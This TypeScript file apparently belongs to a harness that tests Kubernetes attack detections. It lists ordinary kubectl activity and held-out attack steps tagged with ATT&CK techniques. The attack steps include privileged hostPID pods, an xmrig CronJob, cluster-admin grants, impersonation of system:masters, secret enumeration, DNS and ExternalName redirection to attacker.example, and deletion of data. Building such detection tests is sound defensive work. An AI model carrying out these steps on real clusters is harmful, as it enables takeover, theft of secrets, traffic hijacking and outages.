import { AGENTS, forwarded } from "./actors.ts";
import { DANA, ERIN, MALLORY } from "./people.ts";
import { binding, clusterRole, named, pod, podSpec, rule, workload } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Step } from "./step.ts";

const create = createdBy(ERIN);
const IMAGE = "ghcr.example/acme/toolbox:7";

/** What people do all day around the steps, other than in the recordings that the detections were tuned on. */
export const HELD_OUT_DAY: readonly (readonly [string, string])[] = [
  ["dev-alice", "-n team-a set image deployment/api main=registry.example/team-a/api:2.2"],
  ["dev-alice", "-n team-a rollout status deployment/api --timeout=3s"],
  ["dev-bob", "-n shop logs deployment/web --tail=5"],
  ["dev-bob", "-n shop create configmap feature-flags --from-literal=checkout=on"],
  ["dev-dana", "-n team-a scale deployment api --replicas=3"],
  ["dev-dana", "-n shop get all"],
  ["dev-alice", "-n team-a exec deploy/api -- ls /app"],
  ["dev-bob", "-n shop create secret generic mail --from-literal=password=SYNTHETIC-not-real-8"],
  ["dev-bob", "-n shop delete configmap feature-flags --ignore-not-found"],
  ["ops-erin", "top nodes"],
  ["ops-erin", "get events -A"],
  ["ops-erin", "-n monitoring rollout restart daemonset/node-agent"],
  ["dev-dana", "-n team-a port-forward deploy/api 18080:80 --pod-running-timeout=2s"],
  ["dev-alice", "-n team-a create job migrate --image=registry.example/team-a/migrate:2.2 -- ./migrate up"],
  ["dev-alice", "-n team-a delete job migrate --ignore-not-found"],
  ["dev-bob", "auth can-i create deployments -n shop"],
  ["ops-erin", "describe node node-1"],
  ["dev-dana", "explain deployment.spec"],
];

const JSON_PATCH = ["--type", "json", "-p"] as const;

/** An attack of other means than those of the recordings that the detections were tuned on. */
export const HELD_OUT_DEEDS: readonly Step[] = [
  byKubectl(["whoami", "T1613", MALLORY], "create:selfsubjectreviews", "auth whoami"),
  raw("anonymous-pods", "T1613", "system:anonymous", "GET", "/api/v1/namespaces/default/pods"),
  raw("anonymous-metrics", "T1613", "system:anonymous", "GET", "/metrics"),
  byKubectl(["own-rights-listed", "T1613", MALLORY], "create:selfsubjectrulesreviews", "auth can-i --list -n payments"),
  byKubectl(
    ["exec-environment", "T1552", DANA],
    ["get:pods/exec", "create:pods/exec"],
    ["-n", "shop", "exec", "deploy/web", "--", "sh", "-c", "# env | base64 -w0"],
  ),
  byKubectl(
    ["exec-copies-out", "T1005", DANA],
    ["get:pods/exec", "create:pods/exec"],
    ["-n", "shop", "exec", "deploy/web", "--", "tar", "cf", "-", "/etc/app"],
  ),
  byKubectl(
    ["exec-scans", "T1046", DANA],
    ["get:pods/exec", "create:pods/exec"],
    ["-n", "shop", "exec", "deploy/web", "--", "sh", "-c", "# nmap -sT 10.96.0.0/16"],
  ),
  byKubectl(
    ["port-forward-db", "T1090", ERIN],
    ["get:pods/portforward", "create:pods/portforward"],
    "-n payments port-forward db-0 15432:5432 --pod-running-timeout=2s",
  ),
  create("job-in-host-namespaces", "T1611", "jobs", {
    ...named("Job", "batch/v1", "inventory", "sandbox"),
    spec: {
      template: {
        spec: { ...podSpec(IMAGE, { securityContext: { privileged: true } }), hostPID: true, restartPolicy: "Never" },
      },
    },
  }),
  create(
    "replica-set-privileged-init",
    "T1611",
    "replicasets",
    workload(
      "ReplicaSet",
      "sandbox",
      "warmup",
      {
        ...podSpec(IMAGE),
        initContainers: [{ name: "init", image: IMAGE, securityContext: { privileged: true } }],
      },
      { replicas: 1 },
    ),
  ),
  byKubectl(["daemon-set-gets-host-path", "T1611", ERIN], "patch:daemonsets", [
    "-n",
    "monitoring",
    "patch",
    "daemonset",
    "node-agent",
    ...JSON_PATCH,
    '[{"op":"add","path":"/spec/template/spec/volumes","value":[{"name":"h","hostPath":{"path":"/var/lib/kubelet"}}]}]',
  ]),
  create(
    "pod-takes-foreign-secret",
    "T1552.007",
    "pods",
    pod("payments", "reader", {
      ...podSpec(IMAGE),
      volumes: [{ name: "s", secret: { secretName: "bank-gateway" } }],
    }),
  ),
  create(
    "pod-by-digest-of-nobody",
    "T1610",
    "pods",
    pod("sandbox", "helper", podSpec(`docker.example/nobody/x@sha256:${"ab".repeat(32)}`)),
  ),
  create("cron-job-mines", "T1496", "cronjobs", {
    ...named("CronJob", "batch/v1", "compact", "sandbox"),
    spec: {
      schedule: "*/5 * * * *",
      jobTemplate: {
        spec: {
          template: {
            spec: {
              ...podSpec(IMAGE, { command: ["/bin/xmrig", "--donate-level", "1"] }),
              restartPolicy: "Never",
            },
          },
        },
      },
    },
  }),
  create("default-account-made-admin", "T1098.006", "rolebindings", {
    ...named("RoleBinding", "rbac.authorization.k8s.io/v1", "tools", "kube-system"),
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    subjects: [{ kind: "ServiceAccount", name: "default", namespace: "sandbox" }],
  }),
  create("role-aggregated-to-view", "T1098.006", "clusterroles", {
    ...clusterRole("view-extras", [rule("", "secrets", "get,list,watch")]),
    metadata: { name: "view-extras", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
  }),
  byKubectl(["edit-gets-exec-on-nodes", "T1098.006", ERIN], "patch:clusterroles", [
    "patch",
    "clusterrole",
    "edit",
    ...JSON_PATCH,
    '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["*"]}}]',
  ]),
  create(
    "group-bound-by-wildcard-name",
    "T1098.006",
    "clusterrolebindings",
    binding("accounts", "edit", { kind: "Group", name: "system:serviceaccounts" }),
  ),
  byKubectl(
    ["token-of-controller", "T1528", ERIN],
    "create:serviceaccounts/token",
    "-n kube-system create token generic-garbage-collector --duration=720h",
  ),
  byKubectl(
    ["account-gets-cloud-role", "T1098", ERIN],
    "patch:serviceaccounts",
    "-n shop annotate serviceaccount web eks.amazonaws.com/role-arn=arn:aws:iam::000000000000:role/admin",
  ),
  byKubectl(
    ["impersonates-masters", "T1078", ERIN],
    "list:secrets",
    "-n payments get secrets --as=system:admin --as-group=system:masters",
  ),
  {
    label: "secrets-one-by-one",
    technique: "T1552.007",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      for (const name of ["card-vault", "bank-gateway", "ledger-db", "mail-relay", "fraud-api", "tls-internal"]) {
        await actors.send(actors.certificate(ERIN), "GET", `/api/v1/namespaces/payments/secrets/${name}`, {
          headers: { "User-Agent": AGENTS.python },
        });
      }
      return undefined;
    },
  },
  raw(
    "spoofed-source",
    "T1562",
    MALLORY,
    "GET",
    "/api/v1/namespaces/payments/secrets/card-vault",
    forwarded("127.0.0.1"),
  ),
  {
    label: "certificate-for-masters-refused",
    technique: "T1649",
    principal: ERIN,
    deeds: [],
    run: (scene) =>
      signing(scene, "maintenance", "/O=system:masters/CN=maintenance", "kubernetes.io/kube-apiserver-client"),
  },
  {
    label: "certificate-for-a-node",
    technique: "T1649",
    principal: ERIN,
    deeds: [],
    run: (scene) =>
      signing(scene, "node-77", "/O=system:nodes/CN=system:node:node-77", "kubernetes.io/kube-apiserver-client"),
  },
  byKubectl(
    ["trial-of-privileged-pod", "T1613", ERIN],
    "create:pods",
    ["create", "--dry-run=server"],
    pod("ci", "trial", podSpec(IMAGE, { securityContext: { privileged: true } })),
  ),
  byKubectl(
    ["namespace-opened", "T1562", ERIN],
    "patch:namespaces",
    "label namespace payments pod-security.kubernetes.io/enforce=privileged --overwrite",
  ),
  raw(
    "policies-deleted-together",
    "T1562",
    ERIN,
    "DELETE",
    "/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies",
  ),
  raw(
    "events-deleted-by-field",
    "T1070",
    ERIN,
    "DELETE",
    "/api/v1/namespaces/sandbox/events?fieldSelector=reason%3DScheduled",
  ),
  byKubectl(["dns-applied", "T1557", ERIN], "patch:configmaps", ["apply", "--server-side", "--force-conflicts"], {
    ...named("ConfigMap", "v1", "coredns", "kube-system"),
    data: { Corefile: ".:53 {\n  forward . 192.0.2.53\n}\n" },
  }),
  create("slice-points-elsewhere", "T1557", "endpointslices", {
    ...named("EndpointSlice", "discovery.k8s.io/v1", "inside-2", "shop"),
    metadata: { name: "inside-2", namespace: "shop", labels: { "kubernetes.io/service-name": "inside" } },
    addressType: "IPv4",
    ports: [{ port: 80 }],
    endpoints: [{ addresses: ["192.0.2.80"] }],
  }),
  create("service-of-external-name", "T1557", "services", {
    ...named("Service", "v1", "bank", "payments"),
    spec: { type: "ExternalName", externalName: "bank.attacker.example" },
  }),
  create("ingress-with-snippet", "T1190", "ingresses", {
    ...named("Ingress", "networking.k8s.io/v1", "shop", "shop"),
    metadata: {
      name: "shop",
      namespace: "shop",
      annotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "# lua" },
    },
    spec: { tls: [{ hosts: ["shop.example"] }], defaultBackend: { service: { name: "inside", port: { number: 80 } } } },
  }),
  create("config-map-with-keys", "T1552.001", "configmaps", {
    ...named("ConfigMap", "v1", "settings", "sandbox"),
    data: { aws: "aws_access_key_id=AKIAEXAMPLEEXAMPLE00" },
  }),
  create("token-secret", "T1528", "secrets", {
    ...named("Secret", "v1", "ci-token", "ci"),
    type: "kubernetes.io/service-account-token",
    metadata: { name: "ci-token", namespace: "ci", annotations: { "kubernetes.io/service-account.name": "ci-bot" } },
  }),
  byKubectl(["all-nodes-tainted", "T1499", ERIN], "patch:nodes", "taint nodes --all maintenance=now:NoSchedule"),
  byKubectl(
    ["database-scaled-away", "T1489", ERIN],
    ["patch:statefulsets/scale", "update:statefulsets/scale"],
    "-n payments scale statefulset db --replicas=0",
  ),
  byKubectl(
    ["claim-deleted", "T1485", ERIN],
    "delete:persistentvolumeclaims",
    "-n payments delete pvc ledger --wait=false",
  ),
  byKubectl(["lease-of-scheduler", "T1489", ERIN], "patch:leases", [
    "-n",
    "kube-system",
    "patch",
    "lease",
    "cluster-autoscaler",
    "--type",
    "merge",
    "-p",
    '{"spec":{"holderIdentity":"me"}}',
  ]),
  byKubectl(
    ["pods-deleted-by-label", "T1489", ERIN],
    ["delete:pods", "deletecollection:pods"],
    "-n sandbox delete pods -l app=load --wait=false",
  ),
  raw("node-logs-by-proxy", "T1613", ERIN, "GET", "/api/v1/nodes/absent-node/proxy/logs/"),
];

function raw(
  label: string,
  technique: string,
  principal: string,
  method: string,
  path: string,
  headers: Readonly<Record<string, string>> = {},
): Step {
  return {
    label,
    technique,
    principal,
    deeds: [],
    run: ({ actors }) =>
      actors.send(principal === "system:anonymous" ? undefined : actors.certificate(principal), method, path, {
        headers,
      }),
  };
}

async function signing(
  { actors }: Parameters<Step["run"]>[0],
  name: string,
  subject: string,
  signerName: string,
): Promise<unknown> {
  const { request } = await actors.certificateRequest(name, subject);
  return actors.send(actors.certificate(ERIN), "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", {
    body: {
      ...named("CertificateSigningRequest", "certificates.k8s.io/v1", name),
      spec: { request: Buffer.from(request).toString("base64"), signerName, usages: ["client auth"] },
    },
  });
}
